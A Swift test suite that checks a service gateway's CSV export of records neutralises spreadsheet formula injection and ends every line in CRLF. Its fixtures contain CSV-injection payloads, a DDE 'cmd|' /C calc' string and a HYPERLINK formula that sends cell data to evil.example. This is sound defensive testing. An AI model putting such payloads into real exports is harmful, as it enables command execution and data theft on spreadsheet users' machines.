import Foundation
import SelfCareCore
import SelfCareStore
import SelfCareTesting
import Testing

/// `python3` on PATH, for reading an export as a consumer would (its csv module).
let python3: String? = (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin").split(separator: ":")
    .map { "\($0)/python3" }.first { FileManager.default.isExecutableFile(atPath: $0) }

@Suite("The records' CSV export", .serialized, .enabled(if: curl != nil, "needs curl"))
struct CSVExportTests {
    /// What a spreadsheet would run as a formula at the start of a cell (OWASP, CSV Injection), and the
    /// full-width forms a Chinese or Japanese spreadsheet may take for them.
    static let leaders = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]

    /// A hostile record for each leader: the reply, the session and an input start with it.
    static func hostile(_ leader: String) -> RecordDraft {
        RecordDraft(
            time: Fixtures.midNovember, channel: .ussd, session: leader + "cmd|' /C calc'!A0", caller: "18612345678",
            subject: "18612345678", operation: "query.balance", inputs: ["text": leader + "1+1"], auth: .none,
            result: .ok, reason: .ok, reply: leader + "HYPERLINK(\"http://evil.example/?\"&A1,\"Balance\")",
            durationMS: 0)
    }

    /// Byte by byte outside quoted fields: how many line ends are CRLF, and how many are a bare LF or CR.
    static func lineEnds(_ text: String) -> (crlf: Int, bare: Int) {
        var crlf = 0
        var bare = 0
        var quoted = false
        let bytes = Array(text.utf8)
        var i = 0
        while i < bytes.count {
            let b = bytes[i]
            if b == UInt8(ascii: "\"") {
                quoted.toggle()
            } else if !quoted && b == UInt8(ascii: "\r") && i + 1 < bytes.count && bytes[i + 1] == UInt8(ascii: "\n") {
                crlf += 1
                i += 1
            } else if !quoted && (b == UInt8(ascii: "\r") || b == UInt8(ascii: "\n")) {
                bare += 1
            }
            i += 1
        }
        return (crlf, bare)
    }

    /// Records whose reply, session and inputs start with each formula character, exported by
    /// `selfcare records list --format csv` and by `GET /v1/records?format=csv`: no cell starts with one (a
    /// single quote goes first), every line ends in CRLF, both exports are the same bytes, and Python's csv module
    /// reads back every value.
    @Test func formulaCellsAreNeutralisedAndLinesEndInCRLFOnTheCommandLineAndOverHTTP() async throws {
        let benign = RecordDraft(
            time: Fixtures.midNovember, channel: .sms, session: nil, caller: "18612345678", subject: "18612345678",
            operation: "query.balance", inputs: [:], auth: .none, result: .ok, reason: .ok,
            reply: "Balance: 150, \"yuan\"\nsecond line 1+1=2", durationMS: 0)
        try await withTemporaryDirectory { dir in
            for folder in ["grammars", "prompts"] {
                try FileManager.default.copyItem(
                    at: Fixtures.repositoryRoot.appendingPathComponent(folder), to: dir.appendingPathComponent(folder))
            }
            #expect(try run(["init", "--demo"], in: dir).status == 0)
            do {
                let store = try SQLiteServiceStore(path: dir.appendingPathComponent("selfcare.sqlite").path)
                try await store.write { writer in
                    for leader in Self.leaders { _ = try writer.append(Self.hostile(leader)) }
                    _ = try writer.append(benign)
                }
            }
            let cli = try run(["records", "list", "--format", "csv"], in: dir)
            #expect(cli.status == 0, "\(cli.stderr)")
            let server = try ServerProcess([], in: dir, environment: ["SELFCARE_ADMIN_TOKEN": "s3cret"])
            defer { server.stop() }
            let http = try curlGet("\(server.base)/v1/records?format=csv", ["-H", "Authorization: Bearer s3cret"])
            #expect(Array(http.utf8) == Array(cli.stdout.utf8), "both exports write the same bytes")

            for (name, export) in [("records list", cli.stdout), ("GET /v1/records", http)] {
                let ends = Self.lineEnds(export)
                // The header, the demo data's import records, the hostile records and the benign one.
                let lineCount = 1 + demoImportRecords + Self.leaders.count + 1
                #expect(ends == (crlf: lineCount, bare: 0), "\(name): every line ends in CRLF")
                #expect(export.hasSuffix("\r\n"), "\(name)")
                let rows = CSVReader.rows(export).rows.map(\.fields)
                #expect(rows.count == lineCount, "\(name)")
                #expect(rows.first == ServiceRecord.csvHeader.split(separator: ",").map(String.init))
                for row in rows {
                    for cell in row {
                        #expect(
                            !Self.leaders.contains { cell.hasPrefix($0) }, "\(name): a cell starts a formula: \(cell)")
                    }
                }
                for (leader, row) in zip(Self.leaders, rows.dropFirst(1 + demoImportRecords)) {
                    let record = Self.hostile(leader)
                    #expect(row[3] == "'" + record.session!, "\(name)")
                    #expect(row[11] == "'" + record.reply, "\(name)")
                    // `inputs` is JSON text: it starts with `{`, and keeps the value exactly.
                    #expect(row[7] == canonicalJSON(record.inputs), "\(name)")
                }
                #expect(rows.last?[11] == benign.reply, "a cell that starts no formula is left as it is")
            }

            // Python's csv module, as a script or a spreadsheet import would read the file.
            guard let python3 else {
                if validatorsRequired { Issue.record("CI is set but python3 is missing (.ci/run installs it)") }
                return
            }
            let file = dir.appendingPathComponent("records.csv")
            try Data(cli.stdout.utf8).write(to: file)
            let read = try run(
                [
                    "-c",
                    """
                    import csv, json, sys
                    with open(sys.argv[1], newline="", encoding="utf-8") as f:
                        print(json.dumps(list(csv.reader(f, strict=True)), ensure_ascii=False))
                    """,
                    file.path,
                ], in: dir, program: python3)
            #expect(read.status == 0, "\(read.stderr)")
            let rows = try JSONDecoder().decode([[String]].self, from: Data(read.stdout.utf8))
            #expect(
                rows == CSVReader.rows(cli.stdout).rows.map(\.fields), "Python reads what the gateway's reader reads")
            #expect(
                rows.dropFirst(1 + demoImportRecords).map { $0[11] }
                    == Self.leaders.map { "'" + Self.hostile($0).reply } + [benign.reply])
        }
    }
}
